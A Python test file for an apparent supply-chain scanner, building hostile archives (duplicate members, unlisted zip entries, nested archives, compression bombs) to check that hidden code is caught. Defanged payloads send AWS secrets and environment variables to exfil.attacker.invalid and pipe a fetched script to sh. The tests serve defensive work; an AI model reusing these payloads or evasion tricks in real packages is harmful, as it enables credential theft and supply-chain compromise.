"""Hostile archives (issue 12, part A): nothing an attacker puts in an archive may hide code from the analysis,
pass as clean when it could not be read, crash the run, or exhaust the machine.

Every archive is built here (zipfile, tarfile, raw struct bytes); the payloads are defanged (``.invalid``
hosts, fake secrets) and are only ever read. Each "hidden code" case checks first that the same code in a
plain archive is judged malicious, then that the hiding trick does not make it clean. Runs go through the
real CLI (`chainwarden inspect`, `scan --deep`, `diff`, `review --deep`): in process with capsys, or in a
child process where time, memory or signals are measured. Every work folder is created under a test folder
(tempfile's directory is pointed there) and must be gone when the run ends.
"""

from __future__ import annotations

import base64
import bz2
import contextlib
import gzip
import hashlib
import io
import json
import lzma
import os
import random
import signal
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path

import pytest

from chainwarden.cli.main import main
from tests.helpers import tar_info
from tests.hostile._child import bounded, run_cli
from tests.registry.builder import pypi_project
from tests.registry.server import RegistryServer

MiB = 1024 * 1024
ROOT = Path(__file__).resolve().parents[2]

# --- defanged payloads: each one alone is judged malicious -------------------------------------

MAL_PY = ('import os\n'
          'os.system("curl -s \'https://exfil.attacker.invalid/k?d=" + os.environ.get("AWS_SECRET_ACCESS_KEY", "")'
          ' + "\' >/dev/null 2>&1")\n')
MAL_SETUP = MAL_PY + 'from setuptools import setup\nsetup(name="demo", version="1.0")\n'
BENIGN_SETUP = 'from setuptools import setup\nsetup(name="demo", version="1.0", packages=["demo"])\n'
BENIGN_PY = 'def greet(name):\n    return f"hello {name}"\n'
MAL_PTH = ('import os, urllib.request; urllib.request.urlopen("https://exfil.attacker.invalid/t", '
           'data=os.environ["AWS_SECRET_ACCESS_KEY"].encode())\n')
MAL_JS = ("require('child_process').execSync('curl -s https://exfil.attacker.invalid/p.sh | sh');\n"
          "fetch('https://exfil.attacker.invalid/env', {method: 'POST', body: JSON.stringify(process.env)});\n")
BENIGN_JS = "module.exports = function pad(s, n) { return String(s).padStart(n); };\n"
PKG_INFO = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"


# --- builders ----------------------------------------------------------------------------------


def zip_members(path: Path, members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names: that is the point here
        with zipfile.ZipFile(path, "w", method) as zf:
            for name, data in members:
                zf.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data, compress_type=method)
    return path


def tar_members(path: Path, members: list[tuple[tarfile.TarInfo, object]], mode: str = "w:gz", **kw: object) -> Path:
    with tarfile.open(path, mode, **kw) as tf:  # type: ignore[call-overload]
        for info, data in members:
            tf.addfile(info, data if hasattr(data, "read") else (io.BytesIO(data) if info.isreg() else None))  # type: ignore[arg-type]
    return path


class Zeros:
    """`left` zero bytes for tarfile, read in pieces (never held whole)."""

    def __init__(self, left: int) -> None:
        self.left = left

    def read(self, n: int = -1) -> bytes:
        n = min(n if n >= 0 else MiB, self.left)
        self.left -= n
        return bytes(n)


def zeros_member(name: str, size: int) -> tuple[tarfile.TarInfo, object]:
    info = tarfile.TarInfo(name)
    info.size = size
    return info, Zeros(size)


def concat_bomb(path: Path, compress: Callable[[bytes], bytes], size: int) -> Path:
    """A compressed tar of one member of `size` zero bytes, built fast: gzip, bzip2 and xz files may be several
    streams one after the other, so one compressed 64 MiB of zeros is repeated."""
    info = tarfile.TarInfo("demo/bomb.bin")
    info.size = size
    block = 64 * MiB
    zeros = compress(bytes(block))
    rest = size % block
    tail = bytes(rest + (-rest % 512) + 1024)  # the member's padding and the end-of-archive blocks
    return _write(path, compress(info.tobuf(tarfile.GNU_FORMAT)) + zeros * (size // block) + compress(tail))


def record_line(name: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{name},sha256={digest},{len(data)}\n"


def wheel(path: Path, files: dict[str, bytes], *, record: str | None = None, extra: list[tuple[str, bytes]] = ()) -> Path:
    """A pure wheel of `files` with a correct RECORD (or the `record` text given), then the `extra` members."""
    info = "demo-1.0.dist-info"
    members = dict(files)
    members[f"{info}/METADATA"] = PKG_INFO
    members[f"{info}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    text = record if record is not None else "".join(record_line(n, d) for n, d in members.items()) + f"{info}/RECORD,,\n"
    return zip_members(path, [*members.items(), (f"{info}/RECORD", text.encode()), *extra])


def lfh(name: bytes, data: bytes, *, method: int = 0, flags: int = 0, crc: int | None = None, csize: int | None = None,
        usize: int | None = None) -> bytes:
    crc = zlib.crc32(data) if crc is None else crc
    return struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, flags, method, 0, 0x5821, crc,
                       len(data) if csize is None else csize, len(data) if usize is None else usize, len(name), 0) + name


def cdh(name: bytes, data: bytes, offset: int, *, method: int = 0, flags: int = 0, usize: int | None = None,
        crc: int | None = None) -> bytes:
    return struct.pack("<4s6H3I5HII", b"PK\x01\x02", 0x031E, 20, flags, method, 0, 0x5821,
                       zlib.crc32(data) if crc is None else crc, len(data), len(data) if usize is None else usize,
                       len(name), 0, 0, 0, 0, 0o100644 << 16, offset) + name


def eocd(entries: int, cd_size: int, cd_offset: int) -> bytes:
    return struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, cd_size, cd_offset, 0)


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def raw_zip(path: Path, listed: list[tuple[str, bytes]], hidden_after_first: bytes) -> Path:
    """A zip whose central directory lists `listed` (stored), with `hidden_after_first` (raw local entries) placed
    after the first listed member's data: streaming readers extract them, directory readers do not."""
    body = b""
    cd = b""
    for i, (name, data) in enumerate(listed):
        cd += cdh(name.encode(), data, len(body))
        body += lfh(name.encode(), data) + data
        if i == 0:
            body += hidden_after_first
    return _write(path, body + cd + eocd(len(listed), len(cd), len(body)))


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def sdist_tgz(path: Path, members: list[tuple[str, bytes]]) -> Path:
    return tar_members(path, [tar_info(n, d) for n, d in members])


# --- running the CLI ---------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def system_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """tempfile's directory is a test folder, checked empty afterwards: work folders are removed, nothing else
    is written there (a member that escaped its folder would land here)."""
    folder = tmp_path / "system-tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    yield folder
    assert sorted(p.name for p in folder.iterdir()) == []


def inspect(capsys: pytest.CaptureFixture[str], target: Path, *extra: str) -> tuple[int, dict]:
    code = main(["inspect", str(target), "--format", "json", *extra])
    out = capsys.readouterr()
    assert code != 4 and "Traceback" not in out.err and "internal error" not in out.err, out.err
    return code, json.loads(out.out)


def rules(doc: dict) -> dict[str, list[dict]]:
    out: dict[str, list[dict]] = {}
    for f in doc["findings"]:
        out.setdefault(f["rule"], []).append(f)
    return out


def anomaly_kinds(doc: dict) -> set[str]:
    return {f["message"].split(":", 1)[0] for f in doc["findings"] if f["rule"] == "archive-anomaly"}


def located(doc: dict, text: str) -> list[dict]:
    return [f for f in doc["findings"] if f["location"] and text in (f["location"]["file"] or "")]


# --- 1. hidden code: every copy an installer could end up with is analysed ---------------------


def sdist_zip(path: Path, setups: list[str]) -> Path:
    return zip_members(path, [("demo-1.0/PKG-INFO", PKG_INFO)] + [("demo-1.0/setup.py", s.encode()) for s in setups])


def sdist_tar(path: Path, setups: list[str], mode: str = "w:gz", dot: bool = False) -> Path:
    names = ["demo-1.0/setup.py" if i == 0 or not dot else "./demo-1.0//setup.py" for i in range(len(setups))]
    return tar_members(path, [tar_info("demo-1.0/PKG-INFO", PKG_INFO)] + [tar_info(n, s.encode()) for n, s in zip(names, setups)],
                       mode)


def npm_tgz(path: Path, members: list[tuple[str, bytes]]) -> Path:
    return tar_members(path, [tar_info(n, d) for n, d in members])


NPM_MANIFEST = json.dumps({"name": "demo", "version": "1.0.0", "main": "index.js",
                           "scripts": {"postinstall": "node install.js"}}).encode()

HIDDEN: dict[str, tuple[Callable[[Path], Path], Callable[[Path], Path], str]] = {
    # name: (the payload in a plain archive, the payload hidden, the text the finding's location holds)
    "zip: two setup.py, the last one malicious (zipfile installs the last)": (
        lambda d: sdist_zip(d / "demo-1.0.zip", [MAL_SETUP]),
        lambda d: sdist_zip(d / "demo-1.0.zip", [BENIGN_SETUP, MAL_SETUP]), "setup.py (copy 2 of 2)"),
    "zip: two setup.py, the first one malicious": (
        lambda d: sdist_zip(d / "demo-1.0.zip", [MAL_SETUP]),
        lambda d: sdist_zip(d / "demo-1.0.zip", [MAL_SETUP, BENIGN_SETUP]), "demo-1.0/setup.py"),
    "tar.gz: two setup.py, the last one malicious (GNU tar and tarfile install the last)": (
        lambda d: sdist_tar(d / "demo-1.0.tar.gz", [MAL_SETUP]),
        lambda d: sdist_tar(d / "demo-1.0.tar.gz", [BENIGN_SETUP, MAL_SETUP]), "setup.py (copy 2 of 2)"),
    "tar.gz: two setup.py, the first one malicious": (
        lambda d: sdist_tar(d / "demo-1.0.tar.gz", [MAL_SETUP]),
        lambda d: sdist_tar(d / "demo-1.0.tar.gz", [MAL_SETUP, BENIGN_SETUP]), "demo-1.0/setup.py"),
    "tar: the same path spelled ./demo-1.0//setup.py": (
        lambda d: sdist_tar(d / "demo-1.0.tar", [MAL_SETUP], "w"),
        lambda d: sdist_tar(d / "demo-1.0.tar", [BENIGN_SETUP, MAL_SETUP], "w", dot=True), "setup.py (copy 2 of 2)"),
    "wheel: two demo/__init__.py": (
        lambda d: wheel(d / "demo-1.0-py3-none-any.whl", {"demo/__init__.py": MAL_PY.encode()}),
        lambda d: wheel(d / "demo-1.0-py3-none-any.whl", {"demo/__init__.py": BENIGN_PY.encode()},
                        extra=[("demo/__init__.py", MAL_PY.encode())]), "demo/__init__.py (copy 2 of 2)"),
    "zip: demo\\__init__.py after demo/__init__.py (a backslash path)": (
        lambda d: zip_members(d / "demo.zip", [("demo/__init__.py", MAL_PY.encode())]),
        lambda d: zip_members(d / "demo.zip", [("demo/__init__.py", BENIGN_PY.encode()),
                                               ("demo\\__init__.py", MAL_PY.encode())]), "demo/__init__.py (copy 2 of 2)"),
    "npm: two package/install.js, the last one malicious": (
        lambda d: npm_tgz(d / "demo-1.0.0.tgz", [("package/package.json", NPM_MANIFEST), ("package/install.js", MAL_JS.encode())]),
        lambda d: npm_tgz(d / "demo-1.0.0.tgz", [("package/package.json", NPM_MANIFEST),
                                                 ("package/install.js", BENIGN_JS.encode()),
                                                 ("package/install.js", MAL_JS.encode())]), "install.js (copy 2 of 2)"),
    "zip: a .py in a local entry the central directory does not list": (
        lambda d: zip_members(d / "demo.zip", [("demo/evil.py", MAL_PY.encode())]),
        lambda d: raw_zip(d / "demo.zip", [("demo/a.py", BENIGN_PY.encode()), ("demo/b.py", BENIGN_PY.encode())],
                          lfh(b"demo/evil.py", MAL_PY.encode()) + MAL_PY.encode()), "unlisted local entry"),
    "zip: a .pth in an unlisted local entry": (
        lambda d: zip_members(d / "demo.zip", [("demo.pth", MAL_PTH.encode())]),
        lambda d: raw_zip(d / "demo.zip", [("demo/a.py", BENIGN_PY.encode()), ("demo/b.py", BENIGN_PY.encode())],
                          lfh(b"demo.pth", MAL_PTH.encode()) + MAL_PTH.encode()), "demo.pth (unlisted"),
    "zip: an unlisted deflated entry with a data descriptor (sizes after the data)": (
        lambda d: zip_members(d / "demo.zip", [("demo/evil.py", MAL_PY.encode())]),
        lambda d: raw_zip(d / "demo.zip", [("demo/a.py", BENIGN_PY.encode()), ("demo/b.py", BENIGN_PY.encode())],
                          lfh(b"demo/evil.py", b"", method=8, flags=8, crc=0, csize=0, usize=0)
                          + deflate(MAL_PY.encode()) + struct.pack("<4s3I", b"PK\x07\x08", zlib.crc32(MAL_PY.encode()),
                                                                    len(deflate(MAL_PY.encode())), len(MAL_PY))),
        "unlisted local entry"),
    "zip: an unlisted stored entry with a data descriptor": (
        lambda d: zip_members(d / "demo.zip", [("demo/evil.py", MAL_PY.encode())]),
        lambda d: raw_zip(d / "demo.zip", [("demo/a.py", BENIGN_PY.encode()), ("demo/b.py", BENIGN_PY.encode())],
                          lfh(b"demo/evil.py", b"", flags=8, crc=0, csize=0, usize=0) + MAL_PY.encode()
                          + struct.pack("<4s3I", b"PK\x07\x08", zlib.crc32(MAL_PY.encode()), len(MAL_PY), len(MAL_PY))),
        "unlisted local entry"),
    "zip: a 2 MB run of one byte before setup.py (the archive-wide ratio stopped there)": (
        lambda d: sdist_zip(d / "demo-1.0.zip", [MAL_SETUP]),
        lambda d: zip_members(d / "demo-1.0.zip", [("demo-1.0/data.bin", b"A" * (2 * MiB)), ("demo-1.0/PKG-INFO", PKG_INFO),
                                                   ("demo-1.0/setup.py", MAL_SETUP.encode())]), "demo-1.0/setup.py"),
    "tar.gz: a 2 MB run of one byte before setup.py": (
        lambda d: sdist_tar(d / "demo-1.0.tar.gz", [MAL_SETUP]),
        lambda d: sdist_tgz(d / "demo-1.0.tar.gz", [("demo-1.0/data.bin", b"A" * (2 * MiB)),
                                                    ("demo-1.0/setup.py", MAL_SETUP.encode())]), "demo-1.0/setup.py"),
    "tar.bz2: a member that is a bomb (stopped) before setup.py": (
        lambda d: sdist_tar(d / "demo-1.0.tar.bz2", [MAL_SETUP], "w:bz2"),
        lambda d: tar_members(d / "demo-1.0.tar.bz2", [zeros_member("demo-1.0/zeros.bin", 80 * MiB),
                                                       tar_info("demo-1.0/setup.py", MAL_SETUP.encode())], "w:bz2"),
        "demo-1.0/setup.py"),
    "tar.gz: a refused member (a path out of the folder) carrying 80 MiB before setup.py": (
        lambda d: sdist_tar(d / "demo-1.0.tar.gz", [MAL_SETUP]),
        lambda d: tar_members(d / "demo-1.0.tar.gz", [zeros_member("../escape.bin", 80 * MiB),
                                                      tar_info("demo-1.0/setup.py", MAL_SETUP.encode())], compresslevel=9),
        "demo-1.0/setup.py"),
    "wheel: a zip inside the wheel holds the code": (
        lambda d: wheel(d / "demo-1.0-py3-none-any.whl", {"demo/evil.py": MAL_PY.encode()}),
        lambda d: wheel(d / "demo-1.0-py3-none-any.whl", {
            "demo/__init__.py": BENIGN_PY.encode(),
            "demo/data/payload.zip": (lambda p: p.read_bytes())(zip_members(d / "payload.zip", [("evil.py", MAL_PY.encode())]))}),
        "demo/data/payload.zip!/evil.py"),
    "tar.gz: a tgz inside the sdist holds the code": (
        lambda d: sdist_tar(d / "demo-1.0.tar.gz", [MAL_SETUP]),
        lambda d: sdist_tgz(d / "demo-1.0.tar.gz", [
            ("demo-1.0/setup.py", BENIGN_SETUP.encode()),
            ("demo-1.0/vendor/lib.tgz", sdist_tgz(d / "lib.tgz", [("lib/evil.py", MAL_PY.encode())]).read_bytes())]),
        "demo-1.0/vendor/lib.tgz!/lib/evil.py"),
}


@pytest.mark.parametrize("case", list(HIDDEN))
def test_hidden_code_is_analysed_or_fails_the_policy(capsys: pytest.CaptureFixture[str], tmp_path: Path, case: str) -> None:
    plain, hidden, where = HIDDEN[case]
    (tmp_path / "plain").mkdir()
    (tmp_path / "hidden").mkdir()
    code, doc = inspect(capsys, plain(tmp_path / "plain"))
    assert (code, doc["verdict"]) == (1, "malicious"), doc  # the same code, not hidden
    code, doc = inspect(capsys, hidden(tmp_path / "hidden"))
    assert code == 1 and doc["verdict"] == "malicious", (doc["verdict"], doc["verdict_reason"])
    critical = [f for f in located(doc, where) if f["severity"] == "critical"]
    assert critical, [(f["rule"], f["location"]) for f in doc["findings"]]


@pytest.mark.parametrize(("builder", "kind"), [
    (lambda d: sdist_zip(d / "demo-1.0.zip", [BENIGN_SETUP, MAL_SETUP]), "duplicate-name"),
    (lambda d: sdist_tar(d / "demo-1.0.tar.gz", [MAL_SETUP, BENIGN_SETUP]), "duplicate-name"),
    (lambda d: raw_zip(d / "demo.zip", [("a.py", b"x = 1\n"), ("b.py", b"y = 2\n")], lfh(b"c.py", b"z = 3\n") + b"z = 3\n"),
     "zip-unlisted-entry"),
], ids=["zip-duplicate", "tar-duplicate", "zip-unlisted"])
def test_the_tricks_themselves_are_high_anomalies(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                  builder: Callable[[Path], Path], kind: str) -> None:
    """Even with harmless content, two copies of a path or a local entry the directory hides fail the default policy."""
    code, doc = inspect(capsys, builder(tmp_path))
    found = [f for f in rules(doc)["archive-anomaly"] if f["message"].startswith(kind)]
    assert found and found[0]["severity"] == "high" and code == 1


def test_an_npm_manifest_copy_is_judged_for_its_install_scripts(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """npm's tar extraction keeps the last package.json: its postinstall runs, whatever the first one says."""
    archive = npm_tgz(tmp_path / "demo-1.0.0.tgz", [
        ("package/package.json", json.dumps({"name": "demo", "version": "1.0.0"}).encode()),
        ("package/setup-hook.js", b"require('child_process').execSync('curl -s https://exfil.attacker.invalid/x | sh');\n"),
        ("package/package.json", NPM_MANIFEST.replace(b"node install.js", b"node setup-hook.js"))])
    code, doc = inspect(capsys, archive)
    assert code == 1 and doc["verdict"] == "malicious"
    scripts = [f for f in rules(doc).get("install-script", []) if "(copy 2 of 2)" in f["location"]["file"]]
    assert scripts and scripts[0]["severity"] == "critical", rules(doc).get("install-script")


def test_a_nested_setup_py_is_not_the_packages_install_hook(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    setup = b'import subprocess\nfrom setuptools import setup\nsubprocess.call(["make", "all"])\nsetup(name="x")\n'
    own = sdist_tgz(tmp_path / "own.tar.gz", [("x-1.0/setup.py", setup)])
    code, doc = inspect(capsys, own)
    assert "install-time-code" in rules(doc)  # the package's own setup.py runs at install time
    inner = sdist_tgz(tmp_path / "inner.tar.gz", [("x-1.0/setup.py", setup)]).read_bytes()
    outer = wheel(tmp_path / "demo-1.0-py3-none-any.whl", {"demo/__init__.py": BENIGN_PY.encode(),
                                                             "demo/tests/fixture.tar.gz": inner})
    code, doc = inspect(capsys, outer)
    assert (code, doc["verdict"]) == (0, "clean") and "install-time-code" not in rules(doc), doc["findings"]
    assert "process" in doc["capabilities"]  # it is read, as a plain module
    assert "demo/tests/fixture.tar.gz!/x-1.0/setup.py" in doc["capabilities"]["process"]


def test_a_stored_zip_in_a_wheel_is_not_an_unlisted_entry(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Local headers inside a listed member's data (a jar, a test fixture zip stored uncompressed) are its own."""
    inner = zip_members(tmp_path / "fixture.zip", [("a.txt", b"a"), ("b.txt", b"b")], zipfile.ZIP_STORED).read_bytes()
    archive = wheel(tmp_path / "demo-1.0-py3-none-any.whl", {"demo/__init__.py": BENIGN_PY.encode(),
                                                              "demo/tests/fixture.zip": inner})
    with zipfile.ZipFile(archive) as zf:
        assert zf.getinfo("demo/tests/fixture.zip").compress_type == zipfile.ZIP_DEFLATED
    stored = zip_members(tmp_path / "stored.zip", [("demo/__init__.py", BENIGN_PY.encode()), ("demo/fixture.zip", inner)],
                         zipfile.ZIP_STORED)
    for target in (archive, stored):
        code, doc = inspect(capsys, target)
        assert (code, doc["verdict"]) == (0, "clean") and not anomaly_kinds(doc), doc["findings"]


def test_links_inside_a_nested_tarball_are_low(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """dateutil ships its time zones as a tarball full of links, pre-commit a tarball of rbenv: installing the
    package does not unpack them, so their structure is low; their files are still read."""
    zones = tar_members(tmp_path / "zones.tar.gz", [tar_info("Europe/Paris", b"TZif2"), tar_info("Europe/Monaco", type=tarfile.SYMTYPE,
                                                                                        linkname="Paris"),
                                                    tar_info("evil.py", MAL_PY.encode())]).read_bytes()
    archive = wheel(tmp_path / "demo-1.0-py3-none-any.whl", {"demo/__init__.py": BENIGN_PY.encode(),
                                                              "demo/zoneinfo/zones.tar.gz": zones})
    code, doc = inspect(capsys, archive)
    links = [f for f in rules(doc)["archive-anomaly"] if f["message"].startswith("link")]
    assert links and links[0]["severity"] == "low" and "nested archive" in links[0]["message"]
    assert doc["verdict"] == "malicious" and located(doc, "zones.tar.gz!/evil.py")  # the code in it is still read
    harmless = tar_members(tmp_path / "zones2.tar.gz", [tar_info("Europe/Paris", b"TZif2"),
                                                        tar_info("Europe/Monaco", type=tarfile.SYMTYPE, linkname="Paris")])
    code, doc = inspect(capsys, wheel(tmp_path / "demo-1.0-py3-none-any.whl", {"demo/zones.tar.gz": harmless.read_bytes()}))
    assert (code, doc["verdict"]) == (0, "clean")


# --- 2. what could not be read is "not checked", never clean -----------------------------------


def truncated(builder: Callable[[Path], Path]) -> Callable[[Path], Path]:
    def build(d: Path) -> Path:
        path = builder(d)
        data = path.read_bytes()
        return _write(path, data[: len(data) // 2])
    return build


def _many_members(d: Path) -> Path:
    """50,001 directory members (the member cap is 50,000); folders repeat, so nothing much is written."""
    path = d / "many.tar"
    with tarfile.open(path, "w") as tf:
        info = tarfile.TarInfo("d")
        info.type = tarfile.DIRTYPE
        for _ in range(50_001):
            tf.addfile(info)
        tf.addfile(tarfile.TarInfo("d/setup.py"), io.BytesIO(b""))
    return path


def _encrypted(d: Path) -> Path:
    data = b"ciphertext, as far as anyone can tell"
    body = lfh(b"demo/secret.py", data, flags=1) + data + lfh(b"demo/a.py", b"x = 1\n") + b"x = 1\n"
    cd = cdh(b"demo/secret.py", data, 0, flags=1) + cdh(b"demo/a.py", b"x = 1\n", len(lfh(b"demo/secret.py", data) + data))
    return _write(d / "demo.zip", body + cd + eocd(2, len(cd), len(body)))


def _bad_crc(d: Path) -> Path:
    body = lfh(b"demo/a.py", b"x = 1\n", crc=1234) + b"x = 1\n"
    cd = cdh(b"demo/a.py", b"x = 1\n", 0, crc=1234)
    return _write(d / "demo.zip", body + cd + eocd(1, len(cd), len(body)))


def _method(d: Path) -> Path:
    body = lfh(b"demo/a.py", b"x = 1\n", method=9) + b"x = 1\n"  # deflate64: not supported
    cd = cdh(b"demo/a.py", b"x = 1\n", 0, method=9)
    return _write(d / "demo.zip", body + cd + eocd(1, len(cd), len(body)))


def _unreadable_unlisted(d: Path) -> Path:
    """A stored unlisted entry with a data descriptor that never comes: its end cannot be found."""
    return raw_zip(d / "demo.zip", [("a.py", b"x = 1\n"), ("b.py", b"y = 2\n")],
                   lfh(b"evil.py", b"", flags=8, crc=0, csize=0, usize=0) + MAL_PY.encode())


def _nested_too_deep(d: Path) -> Path:
    data = zip_members(d / "l4.zip", [("deepest.py", BENIGN_PY.encode())]).read_bytes()
    for level in (3, 2, 1):
        data = zip_members(d / f"l{level}.zip", [(f"l{level + 1}.zip", data)]).read_bytes()
    return wheel(d / "demo-1.0-py3-none-any.whl", {"demo/__init__.py": BENIGN_PY.encode(), "demo/data/l1.zip": data})


def _big_source(d: Path) -> Path:
    return wheel(d / "demo-1.0-py3-none-any.whl", {"demo/__init__.py": BENIGN_PY.encode(),
                                                   "demo/huge.py": b"x = 1\n" * (2 * MiB)})


def _deep_package_json(d: Path) -> Path:
    deep = b'{"name": "demo", "version": "1.0.0", "x": ' + b"[" * 100_000 + b"]" * 100_000 + \
        b', "scripts": {"postinstall": "node install.js"}}'
    return npm_tgz(d / "demo-1.0.0.tgz", [("package/package.json", deep), ("package/install.js", BENIGN_JS.encode())])


def _sparse(d: Path) -> Path:
    info = tarfile.TarInfo("demo/a.py")
    info.type = tarfile.GNUTYPE_SPARSE
    info.size = 0
    return _write(d / "demo.tar", info.tobuf(tarfile.GNU_FORMAT) + bytes(1024))


def _pax_redos(d: Path) -> Path:
    return tar_members(d / "demo.tar", [tar_info("demo/a.py", b"x = 1\n")], "w", format=tarfile.PAX_FORMAT,
                       pax_headers={"comment": "1" * 200_000})


def _huge_declared(d: Path) -> Path:
    info = tarfile.TarInfo("demo/a.py")
    info.size = 2**70  # GNU base-256; tarfile would loop on the missing data
    return _write(d / "demo.tar", info.tobuf(tarfile.GNU_FORMAT) + b"x" * 1024)


def _zip_bomb(d: Path) -> Path:
    path = d / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf, zf.open("bomb.bin", "w") as out:
        for _ in range(300):
            out.write(bytes(MiB))
    return path


NOT_CHECKED: dict[str, tuple[Callable[[Path], Path], str]] = {
    "truncated zip": (truncated(lambda d: wheel(d / "demo-1.0-py3-none-any.whl", {
        f"demo/m{i}.py": os.urandom(2000).hex().encode() for i in range(6)})), "unreadable"),
    "truncated tar.gz": (truncated(lambda d: sdist_tgz(d / "demo-1.0.tar.gz", [
        (f"demo-1.0/m{i}.py", os.urandom(2000).hex().encode()) for i in range(6)])), "unreadable"),
    "truncated tar": (truncated(lambda d: tar_members(d / "demo-1.0.tar", [
        tar_info(f"demo-1.0/m{i}.py", os.urandom(2000).hex().encode()) for i in range(6)], "w")), "unreadable"),
    "truncated tar.bz2": (truncated(lambda d: tar_members(d / "demo-1.0.tar.bz2", [
        tar_info(f"demo-1.0/m{i}.py", os.urandom(2000).hex().encode()) for i in range(6)], "w:bz2")), "unreadable"),
    "truncated tar.xz": (truncated(lambda d: tar_members(d / "demo-1.0.tar.xz", [
        tar_info(f"demo-1.0/m{i}.py", os.urandom(2000).hex().encode()) for i in range(6)], "w:xz")), "unreadable"),
    "an encrypted member": (_encrypted, "encrypted"),
    "more than 50,000 members": (_many_members, "too-many-files"),
    "a member name over 1,024 characters": (lambda d: zip_members(d / "demo.zip", [
        ("demo/" + "x" * 2000 + ".py", MAL_PY.encode()), ("demo/a.py", b"x = 1\n")]), "too-large"),
    "a 0-byte file": (lambda d: _write(d / "demo-1.0.tar.gz", b""), "unknown-format"),
    "random bytes": (lambda d: _write(d / "demo-1.0.whl", random.Random(12).randbytes(64 * 1024)), "unknown-format"),
    "gzip that holds no tar": (lambda d: _write(d / "demo-1.0.tar.gz", gzip.compress(b"print('x')\n" * 100)),
                               "unknown-format"),
    "a CRC-32 that does not match": (_bad_crc, "unreadable"),
    "an unsupported compression method": (_method, "unreadable"),
    "a pax header built to make tarfile slow": (_pax_redos, "unreadable"),
    "a GNU sparse member": (_sparse, "unreadable"),
    "a declared size of 2**70 bytes": (_huge_declared, "unreadable"),
    "a zip bomb member (300 MiB of zeros)": (_zip_bomb, "compression-ratio"),
    "a tar.xz bomb member": (lambda d: concat_bomb(d / "bomb.tar.xz", lambda b: lzma.compress(b, preset=1), 128 * MiB),
                             "compression-ratio"),
    "a tar.bz2 bomb member": (lambda d: concat_bomb(d / "bomb.tar.bz2", bz2.compress, 128 * MiB), "compression-ratio"),
    "a tar.gz bomb member": (lambda d: concat_bomb(d / "bomb.tar.gz", lambda b: gzip.compress(b, 9), 128 * MiB),
                             "compression-ratio"),
    "archives nested past the depth limit": (_nested_too_deep, "nesting-depth"),
    "a Python source over the 10 MB analysed": (_big_source, "larger than"),
    "a Python source too large to parse (only scanned line by line)": (lambda d: wheel(
        d / "demo-1.0-py3-none-any.whl", {"demo/__init__.py": BENIGN_PY.encode(),
                                          "demo/table.py": b"T = [\n" + b"    1,\n" * (900 * 1024) + b"]\n"}),
        "line by line"),
    "a package.json nested 100,000 levels deep": (_deep_package_json, "nested too deeply"),
    "a package.json over the 10 MB analysed": (lambda d: npm_tgz(d / "demo-1.0.0.tgz", [
        ("package/package.json", b'{"name": "demo", "scripts": {"postinstall": "node install.js"}, "x": "'
         + b"A" * (11 * MiB) + b'"}'), ("package/install.js", BENIGN_JS.encode())]), "larger than"),
}


@pytest.mark.parametrize("case", list(NOT_CHECKED))
def test_what_could_not_be_read_is_not_checked_never_clean(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                           case: str) -> None:
    builder, why = NOT_CHECKED[case]
    start = time.monotonic()
    code, doc = inspect(capsys, builder(tmp_path))
    assert time.monotonic() - start < 60
    assert (code, doc["verdict"]) == (3, "not-checked"), (doc["verdict"], doc["verdict_reason"], doc["findings"])
    assert any(why in n["reason"] for n in doc["not_checked"]), doc["not_checked"]


def _table(head: str, rows: int = 40_000) -> bytes:
    """A module of `head` then a table of numbers too large to parse (over 500,000 tokens)."""
    row = "[" + ", ".join(f"{i}.25e-3" for i in range(12)) + "],\n"
    return (head + "T = [\n" + row * rows + "]\n").encode()


def test_a_table_of_numbers_too_large_to_parse_is_still_analysed(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Numeric data modules (pyscf's sap_data.py: a million tokens of floats) are checked with the numbers taken
    out; code hidden in front of such a table is found, and code the table may feed leaves it not checked."""
    code, doc = inspect(capsys, wheel(tmp_path / "demo-1.0-py3-none-any.whl", {"demo/data.py": _table("import numpy\n")}))
    assert (code, doc["verdict"]) == (0, "clean"), doc["not_checked"]
    code, doc = inspect(capsys, wheel(tmp_path / "demo-1.0-py3-none-any.whl", {"demo/data.py": _table(MAL_PY)}))
    assert (code, doc["verdict"]) == (1, "malicious") and located(doc, "demo/data.py")
    code, doc = inspect(capsys, wheel(tmp_path / "demo-1.0-py3-none-any.whl", {
        "demo/data.py": _table("") + b"exec(bytes(x for row in T for x in row))\n"}))
    assert code in (1, 3) and doc["verdict"] != "clean"
    assert any("line by line" in n["reason"] for n in doc["not_checked"])


def test_an_unlisted_entry_that_cannot_be_read_is_high_and_not_checked(capsys: pytest.CaptureFixture[str],
                                                                         tmp_path: Path) -> None:
    code, doc = inspect(capsys, _unreadable_unlisted(tmp_path))
    assert code == 1 and doc["verdict"] == "suspicious"  # worse than not-checked: the trick itself is high
    assert "zip-unlisted-entry" in anomaly_kinds(doc)
    assert any("evil.py" in n["reason"] and "unreadable" in n["reason"] for n in doc["not_checked"])


